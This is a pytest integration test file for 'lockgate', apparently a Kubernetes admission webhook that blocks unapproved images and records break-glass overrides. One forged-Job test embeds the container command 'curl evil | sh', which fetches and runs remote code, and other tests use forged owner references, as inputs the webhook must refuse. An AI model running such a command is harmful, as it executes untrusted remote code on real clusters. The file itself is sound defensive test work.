"""With the real kubectl: no kind that runs containers is a way around the gate in a gated namespace.

A Pod, a ReplicaSet, a Job or a CronJob with an image nobody approved is refused like a Deployment
is (new ones too, as the chart configures the guard); Kubernetes' controllers still make the
ReplicaSets, Pods and Jobs of guarded owners; ``kubectl debug`` and CronJob image changes need
break-glass, and break-glass is recorded.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from typing import Any

import pytest

from lockgate.handlers import background, testing
from tests.conftest import REPO

pytestmark = pytest.mark.skipif(shutil.which("kubectl") is None, reason="drives the real kubectl")

RS_CONTROLLER = "system:serviceaccount:kube-system:replicaset-controller"
DEPLOYMENT_CONTROLLER = "system:serviceaccount:kube-system:deployment-controller"
CRONJOB_CONTROLLER = "system:serviceaccount:kube-system:cronjob-controller"


@pytest.fixture(scope="module")
def guarded() -> Iterator[testing.Stack]:
    settings = background.local_settings(guard_new_workloads=True, break_glass_groups=["oncall-leads"])
    with testing.stack(settings=settings) as stack:
        stack.kubectl("apply", "-f", str(REPO / "examples" / "gatepolicy-production.yaml"))
        yield stack


def pod(name: str, image: str) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "labels": {"app": name}},
        "spec": {"containers": [{"name": "web", "image": image}]},
    }


def template(name: str, image: str) -> dict[str, Any]:
    return {"metadata": {"labels": {"app": name}}, "spec": pod(name, image)["spec"]}


def replicaset(name: str, image: str) -> dict[str, Any]:
    return {
        "apiVersion": "apps/v1",
        "kind": "ReplicaSet",
        "metadata": {"name": name},
        "spec": {"selector": {"matchLabels": {"app": name}}, "template": template(name, image)},
    }


def job(name: str, image: str) -> dict[str, Any]:
    spec = template(name, image)
    spec["spec"]["restartPolicy"] = "Never"
    return {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": name}, "spec": {"template": spec}}


def cronjob(name: str, image: str) -> dict[str, Any]:
    spec = template(name, image)
    spec["spec"]["restartPolicy"] = "Never"
    return {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": {"name": name},
        "spec": {"schedule": "@hourly", "jobTemplate": {"spec": {"template": spec}}},
    }


def create(stack: testing.Stack, obj: dict[str, Any], *, namespace: str = "production", **as_: str) -> Any:
    args = ["create", "-n", namespace, "-f", "-"]
    if "user" in as_:
        args.append(f"--as={as_['user']}")
    return stack.kubectl(*args, input=json.dumps(obj), context=as_.get("context", "admin"), check=False)


def test_kubectl_run_in_a_gated_namespace_is_refused_and_fine_elsewhere(guarded: testing.Stack) -> None:
    refused = guarded.kubectl(
        "run", "shell", "--image=registry.example/tools:evil", "-n", "production", context="alice", check=False
    )
    assert refused.returncode != 0
    assert 'admission webhook "guard-pods.lockgate.dev" denied the request' in refused.stderr
    assert "a new Pod shell would run images nobody approved" in refused.stderr
    assert "Run it from a Deployment, StatefulSet or DaemonSet that a Promotion rolls out" in refused.stderr
    guarded.kubectl("run", "shell", "--image=registry.example/tools:1", "-n", "staging", context="alice")


@pytest.mark.parametrize(
    ("make", "controller"),
    [(pod, RS_CONTROLLER), (replicaset, DEPLOYMENT_CONTROLLER), (job, CRONJOB_CONTROLLER)],
    ids=["pod", "replicaset", "job"],
)
def test_controllers_make_derived_workloads_and_nobody_else_changes_their_images(
    guarded: testing.Stack, make: Any, controller: str
) -> None:
    name = f"made-{make.__name__}"
    obj = make(name, "registry.example/web:1.0")
    assert create(guarded, obj, context="alice").returncode != 0  # alice may not make one
    created = create(guarded, obj, user=controller)
    assert created.returncode == 0, created.stderr
    kind = obj["kind"].lower()
    changed = guarded.kubectl(
        "set", "image", f"{kind}/{name}", "web=registry.example/web:6.6.6", "-n", "production", context="alice",
        check=False,
    )
    assert changed.returncode != 0
    assert f"the images of {obj['kind']} {name} come from the workload that owns it" in changed.stderr
    stored = json.loads(guarded.kubectl("get", kind, name, "-n", "production", "-o", "json").stdout)
    assert "registry.example/web:1.0" in json.dumps(stored["spec"]) and "6.6.6" not in json.dumps(stored["spec"])


def test_a_cronjobs_image_changes_only_by_break_glass_and_is_recorded(guarded: testing.Stack) -> None:
    assert create(guarded, cronjob("nightly", "registry.example/report:1"), context="alice").returncode != 0
    made = create(guarded, cronjob("nightly", "registry.example/report:1"), context="dan")  # break-glass
    assert made.returncode == 0, made.stderr
    refused = guarded.kubectl(
        "set", "image", "cronjob/nightly", "web=registry.example/report:2", "-n", "production", context="alice",
        check=False,
    )
    assert refused.returncode != 0
    assert "Promotions roll out only Deployments, StatefulSets and DaemonSets" in refused.stderr
    guarded.kubectl(
        "set", "image", "cronjob/nightly", "web=registry.example/report:2", "-n", "production", context="dan"
    )
    bypasses = [r.document() for r in guarded.trail().records() if r.event == "emergency-bypass"]
    recorded = [d for d in bypasses if d["promotion"]["name"] == "break-glass-cronjob-nightly"]
    assert [d["extra"]["images"] for d in recorded] == [
        {"web": "registry.example/report:1"},
        {"web": "registry.example/report:2"},
    ]


def test_a_cronjob_run_by_hand_runs_its_template_and_nothing_else(guarded: testing.Stack) -> None:
    """``kubectl create job --from=cronjob/NAME`` (a manual run) runs what the schedule would: allowed, and not an
    emergency. A Job that claims the CronJob as its owner but runs another image or command is a new workload."""
    assert create(guarded, cronjob("weekly", "registry.example/report:1"), context="dan").returncode == 0
    # The Job exactly as kubectl makes it (owner reference and all); the embedded API takes JSON, not the protobuf
    # kubectl sends for built-in kinds, so kubectl prints it and then sends it as JSON.
    run = ["create", "job", "weekly-now", "--from=cronjob/weekly", "-n", "production", "--dry-run=client", "-o=json"]
    printed = json.loads(guarded.kubectl(*run, context="alice").stdout)
    assert printed["metadata"]["ownerReferences"][0]["kind"] == "CronJob"
    generated = {"controller-uid": "u1", "batch.kubernetes.io/controller-uid": "u1"}  # as the API server adds them
    generated |= {"job-name": "weekly-now", "batch.kubernetes.io/job-name": "weekly-now"}  # before admission
    printed["spec"]["template"].setdefault("metadata", {}).setdefault("labels", {}).update(generated)
    made = create(guarded, printed, context="alice")
    assert made.returncode == 0, made.stderr
    stored = json.loads(guarded.kubectl("get", "job", "weekly-now", "-n", "production", "-o", "json").stdout)
    assert stored["spec"]["template"]["spec"]["containers"][0]["image"] == "registry.example/report:1"
    bypasses = [r.document() for r in guarded.trail().records() if r.event == "emergency-bypass"]
    assert not [d for d in bypasses if "weekly-now" in json.dumps(d)]
    owner = json.loads(guarded.kubectl("get", "cronjob", "weekly", "-n", "production", "-o", "json").stdout)
    reference = {"apiVersion": "batch/v1", "kind": "CronJob", "name": "weekly", "controller": True}
    for name, image, command, uid in [
        ("weekly-evil", "registry.example/report:evil", None, owner["metadata"]["uid"]),
        ("weekly-shell", "registry.example/report:1", ["sh", "-c", "curl evil | sh"], owner["metadata"]["uid"]),
        ("weekly-forged", "registry.example/report:1", None, "not-its-uid"),
    ]:
        forged = job(name, image)
        forged["metadata"]["ownerReferences"] = [{**reference, "uid": uid}]
        if command:
            forged["spec"]["template"]["spec"]["containers"][0]["command"] = command
        refused = create(guarded, forged, context="alice")
        assert refused.returncode != 0, name
        assert f"a new Job {name} would run images nobody approved" in refused.stderr
        assert "kubectl create job --from=cronjob/NAME" in refused.stderr


def test_a_suspended_jobs_pod_template_is_not_changed_by_hand(guarded: testing.Stack) -> None:
    """Suspended and not started, a Job's template labels and annotations may change, and a sidecar injector reads
    them to choose an image for the Pods the Job controller makes once it is resumed."""
    held = job("held", "registry.example/report:1")
    held["spec"]["suspend"] = True
    assert create(guarded, held, user=CRONJOB_CONTROLLER).returncode == 0
    # An injector's annotation that operator.imageAnnotations does not list: any template change is judged.
    injected = {"spec": {"template": {"metadata": {"annotations": {"injector.example.com/image": "evil:1"}}}}}
    patch = ["patch", "job/held", "-n", "production", "--type=merge", "-p", json.dumps(injected)]
    refused = guarded.kubectl(*patch, context="alice", check=False)
    assert refused.returncode != 0
    assert 'admission webhook "guard-jobs.lockgate.dev" denied the request' in refused.stderr
    assert "the pod template of Job held may not change by hand" in refused.stderr
    resumed = guarded.kubectl(
        "patch", "job/held", "-n", "production", "--type=merge", "-p", '{"spec":{"suspend":false}}', context="alice",
        check=False,
    )
    assert resumed.returncode == 0, resumed.stderr  # resuming changes no template


def test_kubectl_debug_in_a_gated_namespace_needs_break_glass(guarded: testing.Stack) -> None:
    assert create(guarded, pod("debugged", "registry.example/web:1.0"), user=RS_CONTROLLER).returncode == 0
    args = ["debug", "pod/debugged", "--image=registry.example/busybox:1.36", "-c", "debugger", "-n", "production"]
    refused = guarded.kubectl(*args, context="alice", check=False)
    assert refused.returncode != 0
    assert 'admission webhook "guard-pods-ephemeralcontainers.lockgate.dev" denied the request' in refused.stderr
    assert "a debug container would run an image nobody approved in Pod debugged" in refused.stderr
    guarded.kubectl(*args, context="dan")
    stored = json.loads(guarded.kubectl("get", "pod", "debugged", "-n", "production", "-o", "json").stdout)
    assert [c["image"] for c in stored["spec"]["ephemeralContainers"]] == ["registry.example/busybox:1.36"]
    bypasses = [r.document() for r in guarded.trail().records() if r.event == "emergency-bypass"]
    assert any(d["extra"]["images"].get("debugger") == "registry.example/busybox:1.36" for d in bypasses)


def test_scaling_an_old_replica_set_up_needs_break_glass_which_is_recorded_with_its_images(
    guarded: testing.Stack,
) -> None:
    """A paused Deployment's old ReplicaSet still holds its earlier image: ``kubectl scale`` or a patch of its
    replicas would run that image again with no approval covering it. Break-glass may, on the ReplicaSet
    itself (its Scale does not say which images it runs), and kubectl shows that it was recorded."""
    old = replicaset("web-old", "registry.example/web:0.9")
    old["spec"]["replicas"] = 0
    old["metadata"]["ownerReferences"] = [
        {"apiVersion": "apps/v1", "kind": "Deployment", "name": "web", "uid": "u-web", "controller": True}
    ]
    assert create(guarded, old, user=DEPLOYMENT_CONTROLLER).returncode == 0
    scale = ["scale", "replicaset/web-old", "--replicas=3", "-n", "production"]
    refused = guarded.kubectl(*scale, context="alice", check=False)
    assert refused.returncode != 0
    assert 'admission webhook "guard-replicasets-scale.lockgate.dev" denied the request' in refused.stderr
    assert "raising the replicas of ReplicaSet web-old (replicas 0 -> 3)" in refused.stderr
    assert "kubectl scale deployment/<its Deployment>" in refused.stderr  # a Scale does not name its owner
    patch = ["patch", "replicaset", "web-old", "-n", "production", "--type", "merge", "-p", '{"spec":{"replicas":3}}']
    by_patch = guarded.kubectl(*patch, context="alice", check=False)
    assert by_patch.returncode != 0 and "(web: registry.example/web:0.9)" in by_patch.stderr
    assert "kubectl scale deployment/web" in by_patch.stderr  # its owner, named
    glass_scale = guarded.kubectl(*scale, context="dan", check=False)
    assert glass_scale.returncode != 0 and "kubectl patch replicaset web-old -n production" in glass_scale.stderr

    made = guarded.kubectl(*patch, context="dan")
    assert "Warning: Lockgate: break-glass scale-up by dan of ReplicaSet web-old" in made.stderr
    stored = json.loads(guarded.kubectl("get", "rs", "web-old", "-n", "production", "-o", "json").stdout)
    assert stored["spec"]["replicas"] == 3
    bypasses = [r.document() for r in guarded.trail().records() if r.event == "emergency-bypass"]
    recorded = [d for d in bypasses if d["promotion"]["name"] == "break-glass-replicaset-web-old"]
    assert [d["extra"]["images"] for d in recorded] == [{"web": "registry.example/web:0.9"}]
    guarded.kubectl("scale", "replicaset/web-old", "--replicas=0", "-n", "production", context="alice")  # down: fine
    assert create(guarded, replicaset("web-old", "registry.example/web:0.9"), namespace="staging").returncode == 0
    guarded.kubectl("scale", "replicaset/web-old", "--replicas=3", "-n", "staging", context="alice")  # ungated


def test_pausing_a_deployment_needs_break_glass(guarded: testing.Stack) -> None:
    """Paused, the deployment controller would scale an older ReplicaSet back up once the current one went."""
    pause = ["rollout", "pause", "deployment/web", "-n", "production"]
    refused = guarded.kubectl(*pause, context="alice", check=False)
    assert refused.returncode != 0
    assert 'admission webhook "guard-deployments.lockgate.dev" denied the request' in refused.stderr
    assert "while Deployment web is paused, its controller would scale an older ReplicaSet" in refused.stderr
    paused = guarded.kubectl(*pause, context="dan")
    assert "Warning: Lockgate: break-glass pause by dan of Deployment web" in paused.stderr
    guarded.kubectl("rollout", "resume", "deployment/web", "-n", "production", context="alice")  # resuming: fine


def test_the_replica_set_of_a_paused_deployment_is_deleted_or_relabelled_out_only_by_break_glass(
    guarded: testing.Stack,
) -> None:
    """A Deployment paused before its namespace was gated: if the ReplicaSet it runs went (deleted, or
    relabelled out of its selector), the deployment controller would scale an older one back up."""
    deployment = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "held"},
        "spec": {"paused": True, "selector": {"matchLabels": {"app": "held"}}, "template": template("held", "h:2")},
    }
    as_break_glass_admin = ["--as=root", "--as-group=system:masters", "--as-group=oncall-leads"]
    made = guarded.kubectl("create", "-n", "production", "-f", "-", *as_break_glass_admin, input=json.dumps(deployment))
    assert "Warning: Lockgate: break-glass change by root" in made.stderr  # (recorded)
    current, history = replicaset("held-2", "h:2"), replicaset("held-1", "h:1")
    history["spec"]["replicas"] = 0
    for rs in (current, history):
        rs["metadata"]["labels"] = rs["spec"]["selector"]["matchLabels"] = {"app": "held"}
        rs["spec"]["template"]["metadata"]["labels"] = {"app": "held"}
        uid = guarded.get("deployment", "held")["metadata"]["uid"]  # the controller claims its ReplicaSets by uid
        owner = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "held", "uid": uid, "controller": True}
        rs["metadata"]["ownerReferences"] = [owner]
        assert create(guarded, rs, user=DEPLOYMENT_CONTROLLER).returncode == 0

    refused = guarded.kubectl("delete", "rs", "held-2", "-n", "production", context="alice", check=False)
    assert refused.returncode != 0
    assert 'admission webhook "guard-replicasets-delete.lockgate.dev" denied the request' in refused.stderr
    assert "Deployment held is paused, so deleting its ReplicaSet held-2 (which runs it)" in refused.stderr
    relabel = ["label", "rs", "held-2", "app=quarantined", "--overwrite", "-n", "production"]
    moved = guarded.kubectl(*relabel, context="alice", check=False)
    assert moved.returncode != 0 and "relabelling or re-owning its ReplicaSet held-2" in moved.stderr
    decoy = {"apiVersion": "v1", "kind": "ConfigMap", "name": "decoy", "uid": "u-decoy", "controller": True}
    re_own = json.dumps({"metadata": {"ownerReferences": [decoy]}})
    re_own_patch = ["patch", "rs", "held-2", "-n", "production", "--type=merge", "-p", re_own]  # the list replaced
    re_owned = guarded.kubectl(*re_own_patch, context="alice", check=False)
    assert re_owned.returncode != 0 and "relabelling or re-owning its ReplicaSet held-2" in re_owned.stderr
    guarded.kubectl("label", "rs", "held-2", "team=web", "-n", "production", context="alice")  # still selected
    rs_env = guarded.kubectl("set", "env", "rs/held-2", "DEBUG=1", "-n", "production", context="alice", check=False)
    assert rs_env.returncode != 0 and "the pod template of ReplicaSet held-2 is its Deployment's" in rs_env.stderr
    set_env = ["set", "env", "deployment/held", "DEBUG=1", "-n", "production"]
    edited = guarded.kubectl(*set_env, context="alice", check=False)  # no ReplicaSet would be current
    assert edited.returncode != 0 and "Deployment held is paused, and while it is, a change to its pod template" in (
        edited.stderr
    )
    guarded.kubectl("delete", "rs", "held-1", "-n", "production", context="alice")  # history: runs nothing

    deleted = guarded.kubectl("delete", "rs", "held-2", "-n", "production", context="dan")
    assert "Warning: Lockgate: break-glass deletion by dan of ReplicaSet held-2 of paused Deployment held" in (
        deleted.stderr
    )
    bypasses = [r.document() for r in guarded.trail().records() if r.event == "emergency-bypass"]
    recorded = [d for d in bypasses if d["promotion"]["name"] == "break-glass-replicaset-held-2"]
    assert [d["extra"]["images"] for d in recorded] == [{"web": "h:2"}]
    assert create(guarded, current, user=DEPLOYMENT_CONTROLLER).returncode == 0
    # One break-glass request that changes its image and relabels it out: both on the kubectl warning and the record.
    containers = [{"name": "web", "image": "h:3"}]
    both = {"metadata": {"labels": {"app": "quarantined"}}, "spec": {"template": {"spec": {"containers": containers}}}}
    patched = guarded.kubectl(
        "patch", "rs", "held-2", "-n", "production", "--type=merge", "-p", json.dumps(both), context="dan"
    )
    said = "break-glass change by dan (web: h:2 -> h:3); relabelling or re-owning by dan of ReplicaSet held-2"
    assert f"Warning: Lockgate: {said}" in patched.stderr
    bypasses = [r.document() for r in guarded.trail().records() if r.event == "emergency-bypass"]
    assert [d["change"]["description"] for d in bypasses if said in d["change"]["description"]]
    guarded.kubectl("rollout", "resume", "deployment/held", "-n", "production", context="alice")
    guarded.kubectl("delete", "rs", "held-2", "-n", "production", context="alice")  # resumed: it makes a new one


def test_scaling_up_a_replication_controller_needs_break_glass(guarded: testing.Stack) -> None:
    rc = {
        "apiVersion": "v1",
        "kind": "ReplicationController",
        "metadata": {"name": "legacy"},
        "spec": {"replicas": 0, "selector": {"app": "legacy"}, "template": template("legacy", "registry.example/l:1")},
    }
    assert create(guarded, rc, context="dan").returncode == 0  # break-glass made it (recorded)
    scale = ["scale", "rc/legacy", "--replicas=2", "-n", "production"]
    refused = guarded.kubectl(*scale, context="alice", check=False)
    assert refused.returncode != 0
    assert 'admission webhook "guard-replicationcontrollers-scale.lockgate.dev" denied the request' in refused.stderr
    assert "raising the replicas of ReplicationController legacy (replicas 0 -> 2)" in refused.stderr


def test_an_injector_image_annotation_on_a_deployments_pod_template_needs_break_glass(guarded: testing.Stack) -> None:
    """The sidecar injector adds the image the annotation names to every Pod the controller rolls out."""
    proxy = {
        "spec": {"template": {"metadata": {"annotations": {"sidecar.istio.io/proxyImage": "registry.example/p:6"}}}}
    }
    patch = ["patch", "deployment/web", "-n", "production", "--type=merge", "-p", json.dumps(proxy)]
    refused = guarded.kubectl(*patch, context="alice", check=False)
    assert refused.returncode != 0
    assert 'admission webhook "guard-deployments.lockgate.dev" denied the request' in refused.stderr
    assert (
        "the pod template annotation sidecar.istio.io/proxyImage of Deployment web chooses an image" in refused.stderr
    )
    patched = guarded.kubectl(*patch, context="dan")
    said = "break-glass change by dan (annotation sidecar.istio.io/proxyImage: set to registry.example/p:6)"
    assert f"Warning: Lockgate: {said}" in patched.stderr
    bypasses = [r.document() for r in guarded.trail().records() if r.event == "emergency-bypass"]
    [recorded] = [d for d in bypasses if said in d["change"]["description"]]
    assert recorded["extra"]["images"]["annotation sidecar.istio.io/proxyImage"] == "registry.example/p:6"
    assert "p:6" not in recorded["image"]  # the record's image (and digest) are the containers'; extra has them all
    restarted = guarded.kubectl("rollout", "restart", "deployment/web", "-n", "production", context="alice")
    assert restarted.returncode == 0  # another template annotation: no image in it
    removed = {"spec": {"template": {"metadata": {"annotations": {"sidecar.istio.io/proxyImage": None}}}}}
    guarded.kubectl(
        "patch", "deployment/web", "-n", "production", "--type=merge", "-p", json.dumps(removed), context="alice"
    )
